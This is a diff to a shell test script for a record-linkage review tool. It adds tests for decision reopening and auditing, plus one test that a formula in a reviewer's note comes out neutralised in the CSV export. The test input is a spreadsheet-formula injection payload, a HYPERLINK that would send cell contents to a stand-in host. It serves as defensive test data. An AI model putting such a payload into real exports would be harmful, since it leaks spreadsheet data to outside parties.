@@ -105,6 +105,15 @@ while IFS=$'\t' read -r id a b; do
 done < pairs.tsv
 [ -s merged.tsv ] || fail "no review pair joins two workers (seed $SEED)"
 expect_eq "$(sq t.db "SELECT decided_by FROM link_decision LIMIT 1")" reviewer1 "decided_by is --user"
+# a note that a spreadsheet would run as a formula reaches the review CSV as
+# text: csvout's neutralisation (a leading quote), whatever the cell holds
+read -r fid _ < merged.tsv
+"$TW_BIN" persons decide --db t.db "$fid" same --reason '=HYPERLINK("http://x.example/?"&A1,"open")' \
+  --user reviewer1 > /dev/null || fail "decide with a formula note"
+"$TW_BIN" persons review --db t.db --decided --limit 100000 > review_decided.csv ||
+  fail "persons review --decided"
+grep -q "^$fid,.*,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\$" review_decided.csv ||
+  fail "the formula note is not neutralised: $(grep "^$fid," review_decided.csv)"
 expect_eq "$(sq t.db "SELECT json_extract(detail, '$.by') FROM audit_log WHERE action =
                       'person.review' LIMIT 1")" reviewer1 "the audit entry names the reviewer"
 "$TW_BIN" link --db t.db --quiet || fail "link after the decisions"
@@ -201,6 +210,19 @@ expect_eq "$(sq t.db "SELECT count(*) FROM audit_log WHERE action = 'person.revi
                       AND object = 'link_review:$jid'")" 2 "each dispute is audited"
 "$TW_BIN" persons decide --db t.db "$jid" not-same --reason "two women, one name" > /dev/null ||
   fail "decide the disputed pair"
+# disputing a decided pair reopens it: its decision cleared, back at the
+# head of the queue, audited with the decision it had
+"$TW_BIN" persons dispute --db t.db "$ja" "$jb" --user reviewer4 > d4 || fail "dispute the decided pair"
+grep -q "^pair $jid: .* is reopened: its decision (not-same) is cleared" d4 || fail "reopen output: $(cat d4)"
+expect_eq "$(sq t.db "SELECT count(*) FROM link_decision WHERE (a = '$ja' AND b = '$jb') OR (a = '$jb' AND b = '$ja')")" 0 \
+  "the reopened pair's decision is cleared"
+expect_eq "$("$TW_BIN" persons review --db t.db --limit 1 | sed -n 2p | cut -d, -f1)" "$jid" \
+  "the reopened pair heads the queue"
+expect_eq "$(sq t.db "SELECT json_extract(detail, '$.reopened') || ',' || json_extract(detail, '$.by') FROM audit_log
+                      WHERE action = 'person.review.add' AND object = 'link_review:$jid' ORDER BY id DESC LIMIT 1")" \
+  "not_same,reviewer4" "the reopening is audited with the decision it cleared"
+"$TW_BIN" persons decide --db t.db "$jid" not-same --reason "two women, one name, again" > /dev/null ||
+  fail "decide the reopened pair"
 "$TW_BIN" link --db t.db --quiet || fail "link after the dispute"
 [ "$(sq t.db "SELECT count(DISTINCT person_id) FROM person_record WHERE record IN ('$ja', '$jb')")" = 2 ] ||
   fail "the disputed records are still one person"
